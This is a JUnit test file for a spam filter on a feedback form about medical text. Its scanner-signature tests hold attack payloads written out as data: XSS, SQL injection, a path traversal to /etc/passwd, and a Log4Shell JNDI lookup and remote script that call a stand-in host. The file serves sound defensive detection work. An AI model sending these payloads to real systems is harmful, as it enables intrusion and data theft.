package org.erratum.feedback.intake;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class SpamRulesTests {

    @Test
    void aGenuineReportRaisesNoReason() {
        assertThat(SpamRules.reasonsFor("The maximum dose in 24 hours is missing.", "Take 1 g every 4 hours"))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = { "asdf", "  Wrong  ", "hello!" })
    void aSingleWordCommentIsSpam(String comment) {
        assertThat(SpamRules.reasonsFor(comment, null)).contains("comment is a single word");
    }

    @Test
    void aCommentThatRepeatsThePassageIsSpamWhateverTheCaseAndSpacing() {
        assertThat(SpamRules.reasonsFor("Take 1 g  every 4 hours", "take 1 g every 4 HOURS"))
                .contains("comment repeats the passage");
    }

    @ParameterizedTest
    @ValueSource(strings = { "https://spam.example/buy", "www.example.com/pills https://other.example",
            "  http://a.example/x , http://b.example/y  " })
    void aCommentOfNothingButLinksIsSpam(String comment) {
        assertThat(SpamRules.reasonsFor(comment, null)).contains("comment is only links");
    }

    @Test
    void aCommentThatCitesALinkAmongWordsIsNotSpam() {
        assertThat(SpamRules.reasonsFor("The NICE guideline at https://www.nice.org.uk/guidance says 3 g.", null))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = { "<script>alert(1)</script> nice page", "admin' OR 1=1 -- here",
            "1 UNION   SELECT password FROM users", "get ../../../../etc/passwd now", "${jndi:ldap://x.example/a} hi",
            "scanned by sqlmap today", "Acunetix web vulnerability probe", "Nikto test request" })
    void knownScannerSignaturesAreSpam(String comment) {
        assertThat(SpamRules.reasonsFor(comment, null)).anyMatch(reason -> reason.startsWith("scanner signature"));
    }

    @Test
    void aScannerSignatureInThePassageIsSpamToo() {
        assertThat(SpamRules.reasonsFor("This quote looks odd to me", "<script src=//x.example/a.js></script>"))
                .anyMatch(reason -> reason.startsWith("scanner signature"));
    }

    @Test
    void everyMatchingRuleIsReported() {
        assertThat(SpamRules.reasonsFor("https://x.example", "https://x.example")).containsExactly(
                "comment is a single word", "comment repeats the passage", "comment is only links");
    }
}
